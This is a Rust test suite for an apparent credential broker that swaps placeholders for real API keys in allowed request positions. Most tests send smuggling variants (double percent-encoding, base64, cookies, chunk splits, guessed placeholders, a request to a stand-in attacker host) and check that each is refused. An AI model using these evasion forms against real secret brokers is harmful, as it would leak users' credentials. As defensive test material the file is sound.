//! B5 to B8: where in a request a placeholder may stand, which placeholder, and what arrives in its place.

use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use bytes::Bytes;
use http_body_util::BodyExt as _;
use keyhole_host_api::apps::CustomPlace;
use keyhole_tests::host::{scope, send};
use keyhole_tests::server::{Server, answer};
use percent_encoding::percent_decode_str;
use tokio::io::AsyncWriteExt as _;

use crate::rig::*;

const URL: &str = "https://api.acme.example/v1/echo";
/// Everything that an encoding must keep from being read as something else.
const AWKWARD: &str = r#"k%2F"\/..&=+ é;{}"#;

fn percent(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02x}")).collect()
}

fn unicode(text: &str) -> String {
    text.bytes().map(|byte| format!("\\u{byte:04x}")).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn b5_an_encoded_placeholder_is_substituted_in_its_place_and_refused_elsewhere() {
    let scene = Scene::new().await;
    let run = scene.run().await;
    let p = &run.placeholder;
    let (once, twice) = (percent(p), percent(&percent(p)));
    let (escaped, encoded) = (unicode(p), STANDARD.encode(p));
    let auth = ("authorization", run.bearer.as_str());

    // Where the definition allows it.
    let basic = format!("Basic {}", STANDARD.encode(format!("api:{p}")));
    run.send(request("GET", URL, &[("authorization", &basic)], "")).await.unwrap();
    run.get(URL).await.unwrap();
    run.send(request("GET", &format!("{URL}?key={once}"), &[], "")).await.unwrap();
    let got = scene.service.received();
    assert_eq!(got[0].header("authorization"), Some(&*format!("Basic {}", STANDARD.encode(format!("api:{KEY}")))));
    assert_eq!(got[1].header("authorization"), Some(&*format!("Bearer {KEY}")));
    assert_eq!(got[2].target, format!("/v1/echo?key={KEY}"));

    // Elsewhere, in every form that a server may decode.
    let refused = [
        request("GET", &format!("{URL}?key={twice}"), &[], ""),
        request("GET", &format!("{URL}?q={once}"), &[], ""),
        request("GET", &format!("{URL}?q={encoded}"), &[], ""),
        request("GET", &format!("{URL}/{twice}"), &[], ""),
        request("GET", &format!("{URL}/{encoded}"), &[], ""),
        request("GET", URL, &[("authorization", &format!("Bearer {encoded}"))], ""),
        request("GET", URL, &[("authorization", &format!("Bearer {once}"))], ""),
        request("GET", URL, &[("authorization", &format!("Basic {encoded}"))], ""),
        request("GET", URL, &[("cookie", &format!("a=b; k={p}"))], ""),
        request("GET", URL, &[("referer", &format!("https://x.example/?k={once}"))], ""),
        request("GET", URL, &[("x-json", &format!("\"{escaped}\""))], ""),
        request("POST", URL, &[auth], p),
        request("POST", URL, &[auth], &once),
        request("POST", URL, &[auth], &twice),
        request("POST", URL, &[auth], &format!("\"{escaped}\"")),
        request("POST", URL, &[auth], &format!("{{\"k\":\"{encoded}\"}}")),
        request(
            "POST",
            URL,
            &[auth, ("content-type", "multipart/form-data; boundary=b")],
            &format!("--b\r\ncontent-disposition: form-data; name=\"note\"\r\n\r\n{p}\r\n--b--\r\n"),
        ),
        pieces("POST", URL, &[auth, ("content-length", &p.len().to_string())], p, 1),
    ];
    let count = refused.len();
    for request in refused {
        let what = format!("{} {:?}", request.uri(), request.headers());
        run.refused(&what, run.send(request).await);
    }
    Scene::all_refused(&scene.uses().await[3..], count);
    assert_eq!(scene.service.received().len(), 3);
}

#[tokio::test(flavor = "multi_thread")]
async fn b5_a_placeholder_cut_across_chunks_cuts_the_request() {
    let scene = Scene::new().await;
    let run = scene.run().await;
    for size in [1, 3, run.placeholder.len() - 1] {
        let text = format!("{}{}{}", "x".repeat(100), run.placeholder, "y".repeat(100));
        let outcome = run.send(pieces("POST", URL, &[], &text, size)).await;
        assert!(outcome.is_err(), "{size}");
    }
    assert!(!scene.service_got(&run.placeholder) && !scene.service_got(KEY));
    assert!(scene.uses().await.iter().all(|used| used.account.is_none() && used.status.is_none()));
    // Where a body is a place, it is read whole: the cut makes no difference.
    let account = scene.host.connect("alice", "ledger", &[("token", AWKWARD)]).await;
    let ledger = scene.run_with("ledger", &account).await;
    let body = format!(r#"{{"auth":{{"token":"{}"}}}}"#, ledger.placeholder);
    let headers = [("content-type", "application/json")];
    ledger.send(pieces("POST", "https://ledger.example/entries", &headers, &body, 1)).await.unwrap();
    let got: serde_json::Value = serde_json::from_slice(&scene.service.received().pop().unwrap().body).unwrap();
    assert_eq!(got["auth"]["token"], AWKWARD);
}

#[tokio::test(flavor = "multi_thread")]
async fn b5_a_form_that_nobody_decodes_leaves_as_a_worthless_string() {
    let scene = Scene::new().await;
    let run = scene.run().await;
    let p = &run.placeholder;
    let reversed: String = p.chars().rev().collect();
    let hex: String = p.bytes().map(|byte| format!("{byte:02x}")).collect();
    let mut gzip = async_compression::tokio::write::GzipEncoder::new(Vec::new());
    // With what can be compressed around it: it would stand there as it is otherwise.
    gzip.write_all(format!("{0}{p}{0}", "a note, ".repeat(50)).as_bytes()).await.unwrap();
    gzip.shutdown().await.unwrap();
    let gzip = gzip.into_inner();
    for body in [reversed.as_bytes(), hex.as_bytes(), &gzip] {
        let body = Bytes::copy_from_slice(body);
        let sent = request("POST", URL, &[("authorization", &run.bearer), ("content-encoding", "gzip")], "")
            .map(|_| http_body_util::Full::new(body.clone()).map_err(|never| match never {}).boxed_unsync());
        assert_eq!(run.send(sent).await.unwrap().status, 200);
        assert_eq!(scene.service.received().last().unwrap().body, body, "as the step wrote it");
    }
    // As a header's name it is in lower case: no longer a placeholder, and in no case the key.
    let named = run.send(request("GET", URL, &[(&p.to_lowercase(), "x")], "")).await;
    assert!(named.is_err() || scene.service_got(&p.to_lowercase()));
    assert!(!scene.service.received().iter().any(|got| got.headers.iter().any(|(name, _)| name.contains("9fq2xt"))));
    scene.uses().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn b6_a_placeholder_of_elsewhere_is_refused_like_a_guessed_one() {
    let scene = Scene::new().await;
    let bobs = scene.host.connect("bob", "acme", &[("api_key", "acme_live_bobs-own-key-2Gt7Hn4Kc")]).await;
    let earlier = scene.run().await.placeholder;
    let in_progress = scene.run().await;
    let of_bob = Run::of(scene.broker.session(scope("bob", &[("acme", "acme", Some(&bobs))])), "acme").await;
    let run = scene.run().await;
    let mut changed = run.placeholder.clone();
    let last = changed.pop().unwrap();
    changed.push(if last == 'a' { 'b' } else { 'a' });
    let guessed = format!("acme_live_khp1{}", "0".repeat(32));
    let nearly = format!("{}{}", &run.placeholder[..run.placeholder.len() - 1], "_");

    let mut reasons = Vec::new();
    let mut medians = Vec::new();
    let rounds = 60;
    let others = [&earlier, &in_progress.placeholder, &of_bob.placeholder, &guessed, &changed, &nearly];
    for placeholder in others {
        let bearer = format!("Bearer {placeholder}");
        let mut times = Vec::new();
        for _ in 0..rounds {
            let sent = request("GET", URL, &[("authorization", &bearer)], "");
            let began = Instant::now();
            let outcome = send(&run.session, sent).await;
            times.push(began.elapsed());
            reasons.push(refused(placeholder, outcome));
        }
        times.sort_unstable();
        medians.push(times[times.len() / 2]);
    }
    reasons.dedup();
    assert_eq!(reasons.len(), 1, "told apart by what is said: {reasons:?}");
    // Of one order; what a look-up takes is compared with care in host-api.
    let (least, most) = (medians.iter().min().unwrap(), medians.iter().max().unwrap());
    assert!(*most < *least * 4 + Duration::from_micros(200), "told apart by time: {medians:?}");
    let uses = scene.uses().await;
    Scene::all_refused(&uses, others.len() * rounds);
    assert!(uses.iter().all(|used| used.account.is_none()), "the audit names nobody's account either");
    scene.untouched();
}

#[tokio::test(flavor = "multi_thread")]
async fn b7_a_credential_arrives_exactly_in_every_place() {
    let scene = Scene::new().await;
    let text = |text: &str| text.to_owned();
    let places = vec![
        CustomPlace::Header { name: text("X-Key"), template: text("{key}") },
        CustomPlace::Query { name: text("k"), template: text("{key}") },
        CustomPlace::Basic { username: text("api"), password: text("{key}") },
    ];
    let account = scene.custom("custom.example", AWKWARD, places).await;
    let run = scene.run_with("custom", &account).await;
    let p = &run.placeholder;
    let url = "https://custom.example/";
    let basic = format!("Basic {}", STANDARD.encode(format!("api:{p}")));
    for sent in [
        request("GET", url, &[("x-key", p)], ""),
        request("GET", &format!("{url}?a=%20&k={p}&b"), &[], ""),
        request("GET", url, &[("authorization", &basic)], ""),
    ] {
        let answer = run.send(sent).await.unwrap();
        assert!(!seen(&answer).contains(AWKWARD));
    }
    let got = scene.service.received();
    assert_eq!(got[0].header("x-key"), Some(AWKWARD));
    let value = got[1].target.strip_prefix("/?a=%20&k=").and_then(|rest| rest.strip_suffix("&b")).unwrap();
    assert!(!value.contains('+') && !value.contains('&'));
    assert_eq!(percent_decode_str(value).decode_utf8().unwrap(), AWKWARD);
    assert_eq!(got[2].header("authorization").unwrap(), format!("Basic {}", STANDARD.encode(format!("api:{AWKWARD}"))));

    let account = scene.host.connect("alice", "ledger", &[("token", AWKWARD)]).await;
    let run = scene.run_with("ledger", &account).await;
    let p = &run.placeholder;
    let url = "https://ledger.example/entries";
    let form = [("content-type", "application/x-www-form-urlencoded")];
    let multipart = [("content-type", "multipart/form-data; boundary=b0")];
    let part =
        |value: &str| format!("--b0\r\nContent-Disposition: form-data; name=\"token\"\r\n\r\n{value}\r\n--b0--\r\n");
    let json_type = [("content-type", "application/json")];
    run.send(request("GET", &format!("https://ledger.example/bot{p}/getMe"), &[], "")).await.unwrap();
    run.send(request("POST", url, &json_type, &format!(r#"{{"auth":{{"token":"{p}"}}}}"#))).await.unwrap();
    run.send(request("POST", url, &form, &format!("a=1&token={p}"))).await.unwrap();
    run.send(request("POST", url, &multipart, &part(p))).await.unwrap();
    let got = &scene.service.received()[3..];
    let segment = got[0].target.strip_prefix("/bot").and_then(|rest| rest.strip_suffix("/getMe")).unwrap();
    assert_eq!(percent_decode_str(segment).decode_utf8().unwrap(), AWKWARD);
    assert_eq!(serde_json::from_slice::<serde_json::Value>(&got[1].body).unwrap()["auth"]["token"], AWKWARD);
    let value = std::str::from_utf8(&got[2].body).unwrap().strip_prefix("a=1&token=").unwrap();
    assert_eq!(percent_decode_str(value).decode_utf8().unwrap(), AWKWARD);
    assert_eq!(String::from_utf8_lossy(&got[3].body), part(AWKWARD));
    let uses = scene.uses().await;
    assert!(uses.len() == 7 && uses.iter().all(|used| used.status == Some(200) && !used.path.contains("%22")));
}

#[tokio::test(flavor = "multi_thread")]
async fn b8_a_credential_can_be_stored_at_the_service_only_where_it_belongs() {
    // The service keeps the last body, and shows it to whoever asks.
    let kept = Arc::new(Mutex::new(Vec::new()));
    let keeper = kept.clone();
    let scene = Scene::at(move |authority| {
        Server::http(authority, &["ledger.example"], move |got| {
            let mut kept = keeper.lock().unwrap();
            if got.method == "POST" {
                kept.clone_from(&got.body);
            }
            answer(200, "application/json", kept.clone())
        })
    })
    .await;
    let token = "ledger-token-7Yw3Qm9Zx1";
    let account = scene.host.connect("alice", "ledger", &[("token", token)]).await;
    let run = scene.run_with("ledger", &account).await;
    let (p, url, json_type) = (&run.placeholder, "https://ledger.example/note", [("content-type", "application/json")]);

    let note = |text: &str| format!(r#"{{"note":"{text}","auth":{{"token":"{p}"}}}}"#);
    run.refused("a note", run.send(request("POST", url, &json_type, &note(p))).await);
    run.refused("a note alone", run.send(request("PUT", url, &json_type, &format!(r#"{{"note":"{p}"}}"#))).await);
    Scene::all_refused(&scene.uses().await, 2);
    scene.untouched();

    // In the place that is allowed it is kept, and comes back as the placeholder.
    let reversed: String = p.chars().rev().collect();
    run.send(request("POST", url, &json_type, &note(&reversed))).await.unwrap();
    assert!(String::from_utf8_lossy(&kept.lock().unwrap()).contains(token));
    let read = seen(&run.send(request("GET", url, &[], "")).await.unwrap());
    assert!(read.contains(p.as_str()) && !read.contains(token), "{read}");

    // In a later run: before it asks for the account, and after.
    let mut later = scope("alice", &[("ledger", "ledger", Some(&account))]);
    later.run = "run-2".to_owned();
    let session = scene.broker.session(later);
    let read = seen(&send(&session, request("GET", url, &[], "")).await.unwrap());
    assert!(read.contains("‹ledger.token›") && !read.contains(token) && !read.contains(p.as_str()), "{read}");
    let later = Run::of(session, "ledger").await;
    let read = seen(&later.send(request("GET", url, &[], "")).await.unwrap());
    assert!(read.contains(&later.placeholder) && !read.contains(token), "{read}");
    // What was kept of the earlier run's placeholder is worth nothing.
    assert!(read.contains(&reversed));
    let old = format!(r#"{{"auth":{{"token":"{p}"}}}}"#);
    later.refused("the earlier one", later.send(request("POST", url, &json_type, &old)).await);
}

#[tokio::test(flavor = "multi_thread")]
async fn b5_what_is_base64_after_its_scheme_is_substituted_there_and_refused_in_any_other_form() {
    let scene = Scene::new().await;
    let header =
        |name: &str, template: &str| CustomPlace::Header { name: name.to_owned(), template: template.to_owned() };
    let places = vec![header("authorization", "Basic {base64(key)}"), header("x-pair", "{base64(id-1:{key})}")];
    let account = scene.custom("custom.example", AWKWARD, places).await;
    let run = scene.run_with("custom", &account).await;
    let (url, p) = ("https://custom.example/v1/echo", &run.placeholder);
    let encoded = STANDARD.encode(p);

    for (name, value, expected) in [
        ("authorization", format!("Basic {encoded}"), format!("Basic {}", STANDARD.encode(AWKWARD))),
        (
            "authorization",
            format!("basic {}", encoded.trim_end_matches('=')),
            format!("Basic {}", STANDARD.encode(AWKWARD)),
        ),
        ("x-pair", STANDARD.encode(format!("id-1:{p}")), STANDARD.encode(format!("id-1:{AWKWARD}"))),
    ] {
        let answer = run.send(request("GET", url, &[(name, &value)], "")).await.unwrap();
        assert_eq!(scene.service.received().pop().unwrap().header(name), Some(&*expected));
        // What the service echoes comes back as the step sent it, whatever it is encoded in.
        let text = seen(&answer);
        assert!(!text.contains(AWKWARD) && !text.contains(&STANDARD.encode(AWKWARD)), "{text}");
    }
    let sent = scene.service.received().len();
    let refused = [
        ("authorization", format!("Basic {p}")),
        ("authorization", format!("Bearer {encoded}")),
        ("authorization", format!("Basic  {encoded}")),
        ("authorization", format!("Basic {encoded} x")),
        ("authorization", format!("Basic {}", STANDARD.encode(format!("{p}:")))),
        ("authorization", format!("Basic {}", STANDARD.encode(format!("x{p}")))),
        ("authorization", encoded.clone()),
        ("x-pair", encoded.clone()),
        ("x-pair", STANDARD.encode(format!("id-2:{p}"))),
        ("x-other", encoded.clone()),
    ];
    for (name, value) in &refused {
        let what = format!("{name}: {}", value.replace(p.as_str(), "P"));
        run.refused(&what, run.send(request("GET", url, &[(name, value)], "")).await);
    }
    for request in [
        request("GET", &format!("{url}?key={encoded}"), &[], ""),
        request("POST", url, &[("content-type", "application/json")], &format!("{{\"key\":\"{encoded}\"}}")),
        request("GET", &format!("https://{EVIL}/"), &[("authorization", &format!("Basic {encoded}"))], ""),
    ] {
        run.refused("elsewhere", run.send(request).await);
    }
    assert_eq!((scene.service.received().len(), scene.evil.accepted()), (sent, 0));
}
